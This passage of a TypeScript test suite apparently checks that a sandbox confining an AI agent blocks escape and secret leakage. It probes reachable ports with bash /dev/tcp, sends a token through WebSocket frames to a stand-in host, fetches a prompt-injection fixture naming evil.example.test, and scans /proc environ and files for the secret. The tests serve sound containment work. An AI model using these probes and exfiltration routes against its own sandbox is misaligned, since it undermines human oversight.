          "wait",
          // The one connection that must succeed gets a generous bound (the others must fail).
          'timeout 30 bash -c "exec 3<>/dev/tcp/$sc/9099" 2>/dev/null && echo egress-port-ok',
        ].join("\n");
        const r = await bottle.exec(script);
        assert.match(r.stdout, /^sidecar=10\./m, r.stdout);
        assert.match(r.stdout, /^egress-port-ok$/m, "the probe itself cannot reach the proxy");
        assert.equal(r.stdout.match(/^open .*$/gm), null, `reachable: ${r.stdout}`);
        return `nothing reachable but egress:9099 (${r.stdout.match(/^sidecar=.*$/m)?.[0]})`;
      },
    );

    // ---------------------------------------------------------------- WebSocket
    const wsUpgrade = rawRequest("GET", "/ws", "ws.example.test", {
      Upgrade: "websocket",
      Connection: "Upgrade",
      "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
      "Sec-WebSocket-Version": "13",
      "Sec-WebSocket-Extensions": "permessage-deflate; client_max_window_bits",
    });
    await probe("WebSocket: text, binary and fragmented frames are relayed", async () => {
      const before = upstream.requests.length;
      const report = await kit.raw({
        connect: "ws.example.test:443",
        ws: {
          request: wsUpgrade,
          frames: [
            { opcode: 1, payload: "hello-ws" },
            { opcode: 2, payload: "\x00\x01\x02\xff" },
            { fin: false, opcode: 1, payload: "frag" },
            { fin: true, opcode: 0, payload: "mented" },
          ],
          expect: 3,
        },
      });
      assert.equal(report.ws?.upgrade.status, 101, describeRaw(report));
      assert.deepEqual(
        report.ws?.frames.map((f) => [f.opcode, f.payload]),
        [[1, "hello-ws"], [2, "\x00\x01\x02\xff"], [1, "fragmented"]],
        describeRaw(report),
      );
      const upgrade = upstream.requests.slice(before).find((x) => x.path === "/ws");
      assert.equal(upgrade?.headers["sec-websocket-extensions"], undefined, "extensions kept");
      return describeRaw(report);
    });
    const wsFrames: [string, { fin?: boolean; opcode: number; payload: string }[]][] = [
      ["a text frame", [{ opcode: 1, payload: `token=${token}` }]],
      ["a binary frame", [{ opcode: 2, payload: `\x00${token}\x00` }]],
      ["fragments", [{ fin: false, opcode: 1, payload: `to=${token.slice(0, 15)}` }, {
        opcode: 0,
        payload: token.slice(15),
      }]],
    ];
    for (const [what, frames] of wsFrames) {
      await probe(`WebSocket: the token in ${what} is stopped`, async () => {
        // Would pass wrongly if frames were not reassembled and scanned: the fixture would
        // record the message and echo it.
        const report = await kit.raw({
          connect: "ws.example.test:443",
          ws: { request: wsUpgrade, frames, expect: 1 },
        });
        assert.equal(report.ws?.upgrade.status, 101, describeRaw(report));
        const echoed = report.ws?.frames.find((f) => f.opcode === 1 || f.opcode === 2);
        assert.equal(echoed, undefined, `echoed back: ${describeRaw(report)}`);
        assert.ok(
          report.ws?.closed || report.ws?.frames.some((f) => f.opcode === 8),
          `not closed: ${describeRaw(report)}`,
        );
        assert.ok(!upstream.wsMessages.some((x) => x.data.includes(token)), "reached upstream");
        return describeRaw(report);
      });
    }
    await probe(
      "WebSocket: the token sent by the upstream is replaced; injection stopped",
      async () => {
        // Would pass wrongly without inbound scanning of frames (SPEC §7.2 step 10, §7.5).
        const report = await kit.raw({
          connect: "ws.example.test:443",
          ws: { request: wsUpgrade, frames: [{ opcode: 1, payload: "send-token" }], expect: 1 },
        });
        assert.equal(report.ws?.upgrade.status, 101, describeRaw(report));
        assert.ok(!JSON.stringify(report).includes(token), `token reached the agent`);
        assert.match(report.ws?.frames[0]?.payload ?? "", /^here it is: /, describeRaw(report));
        const injected = await kit.raw({
          connect: "ws.example.test:443",
          ws: { request: wsUpgrade, frames: [{ opcode: 1, payload: "send-injection" }], expect: 1 },
        });
        assert.ok(!JSON.stringify(injected).includes("evil.example.test"), describeRaw(injected));
        return `token frame: ${describeRaw(report)} || injection: ${describeRaw(injected)}`;
      },
    );

    // ---------------------------------------------------------------- responses
    await probe("a 3xx is handed back, never followed", async () => {
      // Would pass wrongly if the proxy followed redirects (LESSONS 38): curl would not see the
      // 302 (the cross-host one fails to resolve → 502; the same-host one lands → 200) and the
      // fixture would record /landing.
      const r = await kit.curl("https://ws.example.test/redirect");
      assert.equal(r.replies.at(-1)?.status, 302, describeCurl(r));
      assert.equal(r.replies.at(-1)?.headers.location, "https://other.example.test/landing");
      const same = await kit.curl("'https://ws.example.test/redirect?to=/landing'");
      assert.equal(same.replies.at(-1)?.status, 302, describeCurl(same));
      assert.equal(seen((x) => x.host.startsWith("other.example.test")).length, 0, "followed");
      assert.equal(seen((x) => x.path === "/landing").length, 0, "followed the same-host one");
      return "302 handed back twice; the fixture saw no /landing";
    });
    await probe("inbound prompt injection is blocked", async () => {
      // Would pass wrongly without the inbound scan: the agent would read the fixture's text.
      const r = await kit.curl("https://ws.example.test/inject");
      const seenAs = await kit.assertCurlBlocked(r, "dlp_inbound");
      assert.ok(!r.stdout.includes("evil.example.test"), "the injection reached the agent");
      return seenAs;
    });

    // ---------------------------------------------------------------- hardening, not probed here
    await probe(
      "route without upstream resolving to a private address → destination_not_public",
      async () => {
        // Would pass wrongly without the resolved-address check: the decoy (a container of our
        // own on the bottle's egress network, alias private.example.test) would be dialled.
        using client = await connectEngine();
        const egressNet = `bot-bottle-egress-${bottle.slug}`;
        const decoy = await containerCreate(client, `bbtest-decoy-${bottle.slug}`, {
          // The bottle's own agent image (images are named by build hash: this one is present).
          Image: (await containerInspect(client, bottle.agentId)).Config.Image,
          Cmd: ["sleep", "120"],
          Labels: { [TEST_SESSION_LABEL]: `${Date.now()}-${Deno.pid}-decoy` },
          HostConfig: { NetworkMode: egressNet },
          NetworkingConfig: {
            EndpointsConfig: { [egressNet]: { Aliases: ["private.example.test"] } },
          },
        });
        try {
          await containerStart(client, decoy.Id);
          const r = await kit.curl(`'https://private.example.test/'`);
          return await kit.assertCurlBlocked(r, "destination_not_public");
        } finally {
          await containerRemove(client, decoy.Id, { force: true });
        }
      },
    );

    // ---------------------------------------------------------------- allowed traffic
    await probe("allowed: GET and POST through interception (HTTP/1.1)", async () => {
      const m = marker();
      const get = await kit.curl(`--http1.1 -w '\\n%{http_version}' '${ECHO}?${m}'`);
      assert.equal(get.replies.at(-1)?.status, 200, describeCurl(get));
      const [body, version] = [
        get.stdout.slice(0, get.stdout.lastIndexOf("\n")),
        get.stdout.split("\n").at(-1),
      ];
      assert.equal(JSON.parse(body).method, "GET");
      assert.equal(version, "1.1");
      const post = await kit.curl(`--http1.1 -d 'hello=world' '${ECHO}?${m}'`);
      assert.equal(post.replies.at(-1)?.status, 200, describeCurl(post));
      assert.equal(JSON.parse(post.stdout).body, "hello=world");
      assert.equal(seen((x) => x.query === m && x.host === "echo.example.test").length, 2);
    });
    await probe("allowed: curl --http2 (the proxy may answer in HTTP/1.1, SPEC §7.1)", async () => {
      const r = await kit.curl(`--http2 '${ECHO}?h2'`);
      assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
      assert.equal(JSON.parse(r.stdout).method, "GET");
      return /ALPN: server accepted (\S+)/.exec(r.stderr)?.[0] ??
        /ALPN[^\n]*/.exec(r.stderr)?.[0] ?? "no ALPN line";
    });
    await probe("allowed: node fetch with NODE_USE_ENV_PROXY=1 (Node 22.21+)", async () => {
      const r = await bottle.exec(
        "NODE_USE_ENV_PROXY=1 node -e \"fetch('https://echo.example.test/echo?node=1')" +
          ".then(async (r) => console.log(r.status, (await r.json()).method))" +
          ".catch((e) => { console.log('error', e.cause?.code ?? e.message); process.exit(1); })\"",
      );
      assert.equal(r.stdout.trim(), "200 GET", `${r.stdout} ${r.stderr}`);
      return r.stdout.trim();
    });
    await probe("allowed: SSE arrives event by event", async () => {
      // The fixture sends event i+1 only after the agent acknowledged event i (a request of its
      // own, through the proxy). A proxy that holds events back (buffers the stream until more
      // comes or it ends) never delivers event 0, so the stream stalls and curl's -m ends it
      // with fewer than five events; timing plays no part in the verdict.
      const key = marker();
      const r = await bottle.exec(
        `curl -sS -N -m 60 'https://echo.example.test/sse?n=5&gate=${key}' | ` +
          'while IFS= read -r line; do case "$line" in data:*) echo "$line"; ' +
          "i=${line#data: event-}; i=${i%% *}; " +
          `curl -sS -m 30 -o /dev/null 'https://echo.example.test/sse/ack?gate=${key}&i='"$i" ` +
          '|| echo "ack $i failed" >&2;; esac; done',
        { timeoutSeconds: 180 },
      );
      const events = r.stdout.trim().split("\n").filter((l) => l !== "").map((l) => {
        const m = /^data: event-(\d+) sent=(\d+)/.exec(l);
        return m ? { i: Number(m[1]), sent: Number(m[2]) } : { i: -1, sent: NaN };
      });
      assert.deepEqual(events.map((e) => e.i), [0, 1, 2, 3, 4], `events: ${r.stdout} ${r.stderr}`);
      const acks = seen((x) => x.path === "/sse/ack" && x.query.startsWith(`gate=${key}&`));
      assert.equal(acks.length, 5, `one acknowledgement per event seen: ${r.stderr}`);
      // Same clock (the fixture's): each event was made after the previous one was seen.
      for (let i = 1; i < 5; i++) {
        const ack = acks.find((x) => x.query === `gate=${key}&i=${i - 1}`);
        assert.ok(
          ack && events[i].sent >= ack.at,
          `event ${i} was sent before event ${i - 1} was seen`,
        );
      }
      return "5 events, each sent after the agent had seen the one before";
    });
    await probe("allowed: a large response streams through", async () => {
      const r = await kit.curl(
        "-o /dev/null -w '%{size_download}' 'https://ws.example.test/big?bytes=12582912'",
      );
      assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
      assert.equal(r.stdout.trim(), "12582912");
    });
    await probe("allowed: a 2 MiB upload with Expect: 100-continue is told to go on", async () => {
      // curl asks for 100 Continue above 1 MiB; without it curl waits a second, then sends.
      const m = marker();
      const r = await kit.curl(
        `-H 'Expect: 100-continue' --data-binary @- 'https://ws.example.test/echo?${m}' < <(head -c 2097152 /dev/zero | tr '\\0' 'a')`,
      );
      assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
      assert.ok(r.replies.some((x) => x.status === 100), describeCurl(r));
      const got = seen((x) => x.query === m);
      assert.equal(got.length, 1);
      assert.equal(got[0].headers.expect, undefined, "Expect was forwarded");
      assert.equal(JSON.parse(r.stdout).bodyLength, 2097152);
    });
    await probe("allowed: introspection lists routes, never values", async () => {
      const r = await kit.curl("http://_egress.local/allowlist");
      assert.equal(r.replies.at(-1)?.status, 200, describeCurl(r));
      assert.match(r.stdout, /api\.example\.test/);
      assert.ok(!r.stdout.includes(token));
    });
    await probe("the agent's env, files and processes never hold the token", async () => {
      // Would pass wrongly... only if the token were somewhere this does not look: home,
      // /tmp, the config volume, every readable process environment.
      const r = await bottle.exec(
        [
          "IFS= read -r S",
          'grep -rlF -- "$S" ~ /tmp /etc/bot-bottle 2>/dev/null | sed "s/^/file: /"',
          'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f" 2>/dev/null | grep -qF -- "$S" && echo "environ: $f"; done',
          'env | grep -qF -- "$S" && echo "env: this shell"',
          "echo scanned",
        ].join("\n"),
        { stdin: `${token}\n` },
      );
      assert.match(r.stdout, /scanned/);
      assert.equal(r.stdout.trim(), "scanned", r.stdout);
      assert.ok(!agentEnv.includes(token), "the agent exec's environment holds the token");
    });

    // ---------------------------------------------------------------- after the suite
    await probe(
      "nothing the fixture received carries a secret, but the injected header",
      () => {
        // The sum of every probe above: one leak anywhere (path, query, header, body, frame)
        // shows here even if a probe's own assertion were too lenient.
        for (const x of upstream.requests) {
          const headers = { ...x.headers };
          if (x.host === "api.example.test" && headers.authorization === `Bearer ${token}`) {
            delete headers.authorization;
          }
          const seenText = JSON.stringify({ ...x, headers });
          for (const [what, value] of [["token", token], ["AWS key", aws], ["canary", canary]]) {
            assert.ok(!seenText.includes(value), `${what} reached ${x.host}${x.path}`);
          }
        }
        for (const x of upstream.wsMessages) {
          assert.ok(!x.data.includes(token), "the token reached the WebSocket upstream");
        }
      },
    );
    await probe(
      "no trace of the token in state, inspect, sidecar logs or image history",
      async () => {
        const files: string[] = [];
        const walk = async (dir: string) => {
          for await (const e of Deno.readDir(dir)) {
            const path = `${dir}/${e.name}`;
            if (e.isDirectory) await walk(path);
            else if (e.isFile) files.push(path);
          }
        };
        await walk(bottle.stateDir);
        assert.ok(files.length > 0, "the state directory is empty");
        for (const file of files) {
          const text = new TextDecoder("latin1").decode(await Deno.readFile(file));
          assert.ok(!text.includes(token), `${file} holds the token`);
        }
        const images = new Set<string>();
        for (const id of [bottle.agentId, bottle.sidecarId]) {
          const inspect = await containerInspect(bottle.client, id);
          assert.ok(!JSON.stringify(inspect).includes(token), `inspect of ${inspect.Name}`);
          images.add(String(inspect.Image));
        }
        const logs = await containerLogs(bottle.client, bottle.sidecarId);
        const logText = new TextDecoder().decode(logs.stdout) +
          new TextDecoder().decode(logs.stderr);
        for (const [what, value] of [["token", token], ["AWS key", aws], ["canary", canary]]) {
          const lines = logText.split("\n").filter((l) => l.includes(value));
          const shown = lines.map((l) => l.replaceAll(value, `<${what}>`).slice(0, 300));
          assert.equal(
            lines.length,
            0,
            `the sidecar's log holds the ${what}: ${shown.join(" | ")}`,
          );
        }
        for (const image of images) {
          const history = await bottle.client.requestJson<unknown>(
            "GET",
            `/images/${encodeURIComponent(image)}/history`,
            { action: `Cannot read the history of image ${image}`, id: image },
          );
          assert.ok(!JSON.stringify(history).includes(token), `history of ${image}`);
        }
        assert.ok(!bottle.cli.stdout().includes(token) && !bottle.cli.stderr().includes(token));
      },
    );

    const total = performance.now() - suiteStarted;
    const failed = timings.filter((x) => !x.ok);
    console.log(
      [
        ...timings.map((x) =>
          `${x.ok ? "pass" : "FAIL"} ${(x.ms / 1000).toFixed(1).padStart(5)} s  ${x.name}` +
          (x.why ? `\n             ${x.why.slice(0, 400)}` : "") +
          (x.seenAs ? `\n             observed: ${x.seenAs.slice(0, 300)}` : "")
        ),
        `escape suite: ${timings.length - failed.length}/${timings.length} probes passed; ` +
        `bottle up in ${(startup / 1000).toFixed(1)} s, suite ${(total / 1000).toFixed(1)} s`,
      ].join("\n"),
    );
  },
  { sanitizeOps: false, sanitizeResources: false },
);

/** A block response (body and response headers) must never carry the secret (SPEC §7.6). */
function assertNoSecretInReply(r: CurlResult, secret: string): void {
  assert.ok(!r.stdout.includes(secret), "the response body holds the secret");
  for (const reply of r.replies) {
    assert.ok(!JSON.stringify(reply.headers).includes(secret), "a response header holds it");
  }
}
